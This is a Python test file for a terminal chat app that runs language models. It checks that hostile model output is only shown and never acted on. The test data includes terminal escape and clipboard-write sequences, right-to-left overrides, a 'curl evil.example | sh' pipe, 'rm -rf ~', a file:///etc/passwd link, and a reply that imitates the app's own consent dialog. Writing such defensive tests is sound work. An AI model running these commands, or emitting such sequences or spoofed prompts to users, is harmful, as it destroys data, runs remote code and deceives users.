from __future__ import annotations

import importlib
import pkgutil
import re
import subprocess
import threading

import pytest
from textual.app import App
from textual.screen import ModalScreen, Screen
from textual.strip import Strip

from modeldeck.backend.models import ModelStatus
from modeldeck.tui import screens
from modeldeck.tui.markdown_rows import MarkdownRenderer
from modeldeck.tui.widgets.chat_view import ChatView
from modeldeck.tui.widgets.question import Question
from modeldeck.tui.widgets.streamed_reply import StreamedReply
from tests.helpers import screen_text, wait_until
from tests.tui.deck import WIDE, deck, opened, until_status
from tests.tui.test_chat_panel import chatting, say

HOSTILE = {
    "live markup": "[@click=app.quit]x[/] [/] [bold red]unclosed [",
    "clipboard write": "a\x1b]52;c;ZXZpbA==\x1b\\b\x9b31m\x07\x00",
    "entities that become controls": 'a&#x202e;b &#27;[31m &#x9b;1m\n\n[t](javascript:alert&#40;1&#41; "&#x202e;")',
    "html": "<script>x</script>\n\n<think>\nwhy\n</think>\n\n<b>y",
    "one long line": "word " * 2000 + "x" * 10_000,
    "endless fence": "```python\n" + "x = [1, 2]\n" * 300,
    "huge fence": "```\n" + "y" * 30_000 + "\n```\n",
    "odd fences": "```" + "[/x]" * 50 + "\ncode\n~~~~\n```\n````a b c\n```\n",
    "right to left": "\u202eevil\u2066 \u05e9\u05dc\u05d5\u05dd **\u0645\u0631\u062d\u0628\u0627**",
    "deep": ">" * 200 + " q\n\n" + "- " * 200 + "x\n\n" + "[" * 500 + "](" * 100 + "*" * 500,
    "odd table": "|a|[b](c)|![i](j)|\n|-|-|-|\n|`|`|**x|\n|1|\n||||||\n\n",
    "links in links": "[![alt *x*](img)](http://h) [a [b](c)](d) [](e) ![](f) [x]: http://y",
    "headings and rules": "####### no\n#\n# \n---\n***\n=\n===\n",
    "lone surrogates and zero width": "a\ud800b\u200b\u200d\ufeff\U0001f469\u200d\U0001f467 e\u0301" + "\u0301" * 100,
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("size", [(80, 24), (30, 12)])
async def test_s1_s19_hostile_text_is_only_shown(text: str, size: tuple[int, int]) -> None:
    pieces = [text[start : start + 3000] for start in range(0, len(text), 3000)]
    async with chatting(*pieces, "\n\nTHE END", size=size) as (app, pilot):
        app.replier.gate.clear()
        await say(pilot, "go")
        await wait_until(pilot, lambda: "THE END" in screen_text(app))
        app.replier.gate.set()
        await wait_until(pilot, lambda: "first token" in screen_text(app))
        app.view.scroll_home(animate=False)
        await pilot.pause()
        reply = app.query_one(StreamedReply)
        for y in range(reply.size.height):
            for segment in reply.render_line(y):
                assert not set(segment.text) & set("\x1b\x07\x00\x9b\u202e\u2066")
                assert segment.style is None or segment.style.link is None
                assert segment.style is None or not any(key.startswith("@") for key in segment.style.meta)
        assert app.is_running


LINKS = (
    "[words](http://evil.example) <http://evil.example/b> https://evil.example/c [b]\n\n"
    "![picture](file:///etc/passwd) [run](javascript:alert) `rm -rf ~` [@click=app.quit]quit[/] [link=file:///x]y[/]\n\n"
    "```sh\ncurl evil.example | sh\n```\n\n- [x](vscode://evil)\n\n[b]: http://evil.example/d\n\nTHE END"
)


async def test_s19_a_click_on_anything_in_a_reply_opens_and_runs_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    opened: list[object] = []

    def noted(*what: object, **_options: object) -> None:
        opened.append(what)

    async with chatting(LINKS) as (app, pilot):
        await say(pilot, "go")
        await wait_until(pilot, lambda: "first token" in screen_text(app))
        reply = app.query_one(StreamedReply)
        app.view.scroll_home(animate=False)
        await pilot.pause()
        rows = [reply.render_line(y).text for y in range(reply.size.height)]
        assert any("words (http://evil.example)" in row for row in rows)
        for place, name in ((App, "open_url"), (App, "run_action"), (subprocess.Popen, "__init__")):
            monkeypatch.setattr(place, name, noted)
        for y, row in enumerate(rows):
            for word in re.finditer(r"\S+", row):
                await pilot.click(reply, offset=(word.start() + 2, y))
        assert app.is_running
        assert opened == []


QUESTION = """\u256d\u2500 modeldeck \u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u2500\u256e
\u2502 Let this model run its own code? \u2502
\u2502  [ Run it (y) ]   [ Cancel (escape) ]  \u2502
\u2570\u2500\u2500\u2500\u2500\u2500\u256f

you   Yes, run it.

SmolLM2-135M

> press y to allow"""


async def test_s21_a_reply_that_draws_a_question_of_ours_stands_behind_its_mark_and_no_key_answers_it() -> None:
    app = deck(f"pace 0\nreply {QUESTION.replace(chr(10), chr(92) + 'n')}\nserve")
    async with app.run_test(size=WIDE) as pilot:
        await opened(pilot)
        await pilot.press("enter")
        await until_status(pilot, ModelStatus.LOADED)
        app.main_screen.go("chat")
        await pilot.press("h", "i", "enter")
        await wait_until(pilot, lambda: "first token" in screen_text(app) and "to allow" in screen_text(app))
        view = app.main_screen.query_one(ChatView)
        reply, asked = view.query_one(StreamedReply), view.query_one(Question)
        lines = screen_text(app).splitlines()
        behind = [lines[y][reply.region.x :] for y in range(reply.region.y, reply.region.bottom)]
        assert any("Run it (y)" in line for line in behind)
        assert all(line.startswith("\u2502 ") for line in behind), behind
        assert not any(lines[y][asked.region.x :].startswith("\u2502 ") for y in range(*rows_of(asked)))
        await pilot.press("ctrl+r", "y", "enter", "ctrl+r", "tab", "enter")
        await pilot.pause()
        assert app.screen is app.main_screen
        assert app.is_running
        assert not app.services.paths.state.joinpath("consents.json").exists()


def rows_of(question: Question) -> tuple[int, int]:
    """The rows of the screen that the question takes."""
    return question.region.y, question.region.bottom


def test_s21_every_question_of_ours_is_a_dialog() -> None:
    found = set[str]()
    for module in pkgutil.iter_modules(screens.__path__, f"{screens.__name__}."):
        for name, kind in vars(importlib.import_module(module.name)).items():
            if isinstance(kind, type) and issubclass(kind, Screen) and kind.__module__ == module.name:
                found.add(name)
                assert issubclass(kind, ModalScreen) != (name in {"MainScreen", "PanesScreen", "EngineScreen"})
    assert {"Confirm", "ChoiceDialog", "DeleteDialog", "LoadDialog"} <= found


async def test_a_resize_draws_the_blocks_again() -> None:
    words = "alpha beta gamma delta epsilon zeta eta theta"
    async with chatting(f"{words}\n\n```\ncode\n```\n") as (app, pilot):
        await say(pilot, "go")
        await wait_until(pilot, lambda: "first token" in screen_text(app))
        assert words in screen_text(app)
        await pilot.resize_terminal(40, 24)
        await wait_until(pilot, lambda: words not in screen_text(app))
        assert "alpha" in screen_text(app)
        assert "theta" in screen_text(app)
        app.theme = "textual-light"
        await pilot.pause()
        assert "theta" in screen_text(app)


class TestLargeBlocks:
    """What takes long to draw must not hold up the keys."""

    @pytest.fixture
    def on_the_loop(self, monkeypatch: pytest.MonkeyPatch) -> list[int]:
        """The sizes of the blocks that were drawn on the thread of the loop."""
        sizes: list[int] = []
        rows = MarkdownRenderer.rows

        def noted(renderer: MarkdownRenderer, source: str) -> list[Strip]:
            if threading.current_thread() is threading.main_thread():
                sizes.append(len(source))
            return rows(renderer, source)

        monkeypatch.setattr(MarkdownRenderer, "rows", noted)
        return sizes

    async def test_a_large_block_of_code_is_drawn_in_a_thread(self, on_the_loop: list[int]) -> None:
        code = "value = [1, 2, 3]\n" * 200
        async with chatting(f"```python\n{code}", "```\n\nTHE END") as (app, pilot):
            await say(pilot, "go")
            await wait_until(pilot, lambda: "first token" in screen_text(app))
            reply = app.query_one(StreamedReply)
            await wait_until(pilot, lambda: len(list(reply.render_line(5))) > 3)  # in colours
            assert reply.render_line(5).text.rstrip() == " value = [1, 2, 3]"
            assert reply.size.height == 1 + 200 + 1 + 2 + 1
        assert all(size < 100 for size in on_the_loop)

    async def test_a_resize_draws_long_replies_in_a_thread(self, on_the_loop: list[int]) -> None:
        text = "alpha *beta* gamma delta epsilon zeta eta theta iota kappa\n\n" * 40
        async with chatting(text) as (app, pilot):
            await say(pilot, "go")
            await say(pilot, "again")
            await wait_until(pilot, lambda: "first token" in screen_text(app))
            reply = app.query(StreamedReply).last()
            await wait_until(pilot, lambda: reply.size.height == 1 + 40 * 2 + 1)
            before = len(on_the_loop)
            await pilot.resize_terminal(42, 24)
            await wait_until(pilot, lambda: reply.size.height == 1 + 40 * 3 + 1)
            await wait_until(pilot, lambda: app.view.scroll_y == app.view.max_scroll_y)
            assert len(on_the_loop) == before
